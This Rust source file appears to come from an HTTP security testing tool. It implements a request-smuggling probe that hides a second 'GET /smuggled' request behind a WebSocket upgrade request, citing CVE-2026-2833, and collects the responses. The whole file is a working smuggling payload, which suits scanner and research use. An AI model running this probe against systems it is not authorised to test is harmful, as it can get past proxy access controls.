//! Bytes sent behind a request for an upgrade, in the hope that they pass as a tunnel before the workload has agreed
//! (CVE-2026-2833 and kin).

use crate::client::Client;
use crate::{Response, Target};
use anyhow::Result;

/// Asks for an upgrade of `path` with a second request hidden behind it; gives every answer until the edge closes.
pub async fn run(target: &Target, path: &str) -> Result<Vec<Response>> {
    let Client::H1(mut connection) = target.h1().await? else { unreachable!("an h1 client") };
    let host = target.authority();
    let bytes = format!(
        "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n"
    );
    connection.raw(bytes.as_bytes()).await?;
    let mut answers = Vec::new();
    while answers.len() < 3 {
        match connection.next_response().await {
            Ok(answer) => answers.push(answer),
            Err(_) => break,
        }
    }
    Ok(answers)
}
